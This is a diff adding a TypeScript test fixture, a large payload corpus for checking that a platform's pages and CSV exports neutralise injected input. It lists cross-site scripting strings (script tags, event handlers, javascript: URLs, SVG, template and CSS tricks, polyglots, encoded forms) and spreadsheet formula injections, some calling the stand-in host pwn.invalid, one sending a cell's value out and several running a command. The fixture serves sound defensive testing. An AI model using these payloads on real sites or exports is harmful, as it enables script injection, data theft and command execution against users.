@@ -1,0 +1,175 @@
+// A corpus of injection payloads for every string field of the platform's data. Each one that could run script
+// trips `window.__pwned` (and some open a dialog, some load from pwn.invalid), so a browser test can tell that
+// nothing ran: no tripwire, no dialog, no request to the attacker's host. Grouped by technique; the groups are
+// exported so tests can report what they covered.
+
+/** What a payload runs if it ever runs. */
+export const TRIP = 'window.__pwned=1';
+/** A host no request of ours may ever reach. */
+export const PWN_HOST = 'pwn.invalid';
+const T = TRIP;
+const H = `//${PWN_HOST}`;
+
+export const XSS_GROUPS: Record<string, readonly string[]> = {
+  scriptTags: [
+    `<script>${T}</script>`,
+    `<ScRiPt>${T}</sCrIpT>`,
+    `<script src="${H}/x.js"></script>`,
+    `<script src=data:,${T}></script>`,
+    `<script/x>${T}</script>`,
+    `<script\n>${T}</script\n>`,
+    `</title><script>${T}</script>`,
+    `</textarea><script>${T}</script>`,
+    `</style><script>${T}</script>`,
+    `</noscript><script>${T}</script>`,
+    `<!--<script>${T}</script>-->`,
+    `<scr<script>ipt>${T}</scr</script>ipt>`,
+    `<<script>script>${T}<</script>/script>`,
+    `<script>/*</script><script>${T}//*/</script>`,
+    `<script type="module">${T}</script>`,
+  ],
+  eventHandlers: [
+    `<img src=x onerror=${T}>`,
+    `<img src="${H}/i.png" onerror="${T}">`,
+    `<IMG SRC=x OnErRoR=${T}>`,
+    `<img src=x:x onerror=${T}//>`,
+    `<svg onload=${T}>`,
+    `<svg/onload=${T}>`,
+    `<body onload=${T}>`,
+    `<iframe onload=${T}></iframe>`,
+    `<input autofocus onfocus=${T}>`,
+    `<select autofocus onfocus=${T}></select>`,
+    `<textarea autofocus onfocus=${T}></textarea>`,
+    `<details open ontoggle=${T}>`,
+    `<video><source onerror=${T}></video>`,
+    `<audio src=x onerror=${T}>`,
+    `<marquee onstart=${T}>x</marquee>`,
+    `<object data=x onerror=${T}></object>`,
+    `<div onmouseover=${T}>hover me</div>`,
+    `<a onclick=${T} href=#>click me</a>`,
+    `<link rel=stylesheet href=x onerror=${T}>`,
+    `<style onload=${T}></style>`,
+    `<div tabindex=0 autofocus onfocusin=${T}>`,
+    `<img src=x onerror=alert(1)>`,
+    `<svg><animate onbegin=${T} attributeName=x dur=1s>`,
+    `<xss onanimationstart=${T} style=animation-name:spin>`,
+  ],
+  javascriptUrls: [
+    `javascript:${T}`,
+    `JaVaScRiPt:${T}`,
+    `java\tscript:${T}`,
+    ` javascript:${T}`,
+    `&#106;avascript:${T}`,
+    `javascript&colon;${T}`,
+    `\u0001javascript:${T}`,
+    `<a href="javascript:${T}">link</a>`,
+    `<a href="jav&#x09;ascript:${T}">link</a>`,
+    `<iframe src="javascript:${T}"></iframe>`,
+    `<form action=javascript:${T}><button>go</button></form>`,
+    `<button formaction=javascript:${T}>go</button>`,
+    `<object data="javascript:${T}"></object>`,
+    `<embed src="javascript:${T}">`,
+    `data:text/html,<script>${T}</script>`,
+    `vbscript:msgbox(1)`,
+    `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">x</a>`,
+  ],
+  svgAndMathml: [
+    `<svg><script>${T}</script></svg>`,
+    `<svg><a xlink:href="javascript:${T}"><text x=20 y=20>x</text></a></svg>`,
+    `<svg><set attributeName=onmouseover to=${T}>`,
+    `<svg><foreignObject><img src=x onerror=${T}></foreignObject></svg>`,
+    `<svg><style><img src=x onerror=${T}></style></svg>`,
+    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${T}'/></svg>#x"/></svg>`,
+    `<math><mtext><table><mglyph><style><img src=x onerror=${T}>`,
+    `<math><maction actiontype=statusline xlink:href=javascript:${T}>x</maction></math>`,
+    `<math href="javascript:${T}">click</math>`,
+    `<svg><title><![CDATA[</title><img src=x onerror=${T}>]]></svg>`,
+    `<embed src="data:image/svg+xml,<svg onload=${T} xmlns='http://www.w3.org/2000/svg'/>">`,
+  ],
+  templates: [
+    '${' + T + '}',
+    '`${' + T + '}`',
+    `{{constructor.constructor('${T}')()}}`,
+    `{{$on.constructor('${T}')()}}`,
+    `#{${T}}`,
+    `<%= ${T} %>`,
+    `{{${T}}}`,
+    '${{' + T + '}}',
+    `[[${T}]]`,
+    `{{7*7}}`,
+    `<template><img src=x onerror=${T}></template>`,
+    `<div v-html="'<img src=x onerror=${T}>'"></div>`,
+  ],
+  css: [
+    `<div style="background:url(javascript:${T})">x</div>`,
+    `<div style="width:expression(${T})">x</div>`,
+    `<style>@import '${H}/x.css';</style>`,
+    `<style>*{background:url("${H}/bg.png")}</style>`,
+    `x;background-image:url("javascript:${T}")`,
+    `</style><img src=x onerror=${T}>`,
+    `<style>*{x:expression(${T})}</style>`,
+    `-moz-binding:url(${H}/xbl#x)`,
+    `<link rel=stylesheet href="${H}/x.css">`,
+    `color:red;}</style><script>${T}</script>`,
+  ],
+  brokenAttributes: [
+    `"><img src=x onerror=${T}>`,
+    `'><img src=x onerror=${T}>`,
+    `" onmouseover="${T}`,
+    `' onfocus='${T}' autofocus='`,
+    `" autofocus onfocus=${T} x="`,
+    `\\"><script>${T}</script>`,
+    `x" onerror="${T}" src="x`,
+    `<img """><script>${T}</script>">`,
+    `<img src="x" onerror="${T}"`,
+    `<img src=x onerror=${T}`,
+    `"/><svg/onload=${T}>`,
+    `\`><img src=x onerror=${T}>`,
+    `</a><a href="javascript:${T}">x`,
+  ],
+  polyglots: [
+    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${T} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${T}//>\\x3e`,
+    `'">><marquee><img src=x onerror=${T}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${T}><script>${T}</script>`,
+    `">'><details/open/ontoggle=${T}>`,
+    `-->'"/></sCript><svG x=">" onload=${T}>`,
+    `';${T}//';${T}//";${T}//";${T}//--></SCRIPT>">'><SCRIPT>${T}</SCRIPT>=&{}`,
+    `<!--#exec cmd="/bin/echo '<script>${T}</script>'"-->`,
+  ],
+  encodedAndObfuscated: [
+    `&lt;script&gt;${T}&lt;/script&gt;`,
+    `%3Cscript%3E${T}%3C%2Fscript%3E`,
+    `\\u003cscript\\u003e${T}\\u003c/script\\u003e`,
+    `\u003cscript\u003e${T}\u003c/script\u003e`,
+    `<img src=x onerror=&#119;indow.__pwned=1>`,
+    `<img src=x onerror=\\u0077indow.__pwned=1>`,
+    `\u0000<script>${T}</script>`,
+    `<scr\u0000ipt>${T}</scr\u0000ipt>`,
+    `\u202e<script>${T}</script>`,
+    `<iframe srcdoc="&lt;script&gt;${T}&lt;/script&gt;"></iframe>`,
+    `<meta http-equiv="refresh" content="0;url=javascript:${T}">`,
+    `<base href="javascript:${T}//">`,
+    `<object type=text/html data="data:text/html,<script>${T}</script>"></object>`,
+    `<isindex action=javascript:${T} type=image>`,
+    `<noscript><p title="</noscript><img src=x onerror=${T}>">`,
+  ],
+  // Spreadsheet formulas: harmless in a page, dangerous in a CSV opened by a spreadsheet. Exports must defuse them.
+  formulas: [
+    `=HYPERLINK("http:${H}/?x="&A1,"click")`,
+    `=cmd|' /C calc'!A0`,
+    `+cmd|' /C calc'!A0`,
+    `-2+3+cmd|' /C calc'!A0`,
+    `@SUM(1+1)*cmd|' /C calc'!A0`,
+    `\t=1+1`,
+    `\r=1+1`,
+    `=1+1`,
+  ],
+};
+
+/** Every payload, each once. */
+export const XSS_PAYLOADS: readonly string[] = [...new Set(Object.values(XSS_GROUPS).flat())];
+
+/** Payloads for id fields: ids must be non-empty; a membership's user id must not contain "|" (limits.ts). */
+export const ID_PAYLOADS: readonly string[] = XSS_PAYLOADS.filter((p) => p.length > 0 && !p.includes('|'));
+
+/** Characters that start a spreadsheet formula (OWASP CSV injection): a cell starting with one must be defused. */
+export const FORMULA_PREFIXES = ['=', '+', '-', '@', '\t', '\r'] as const;
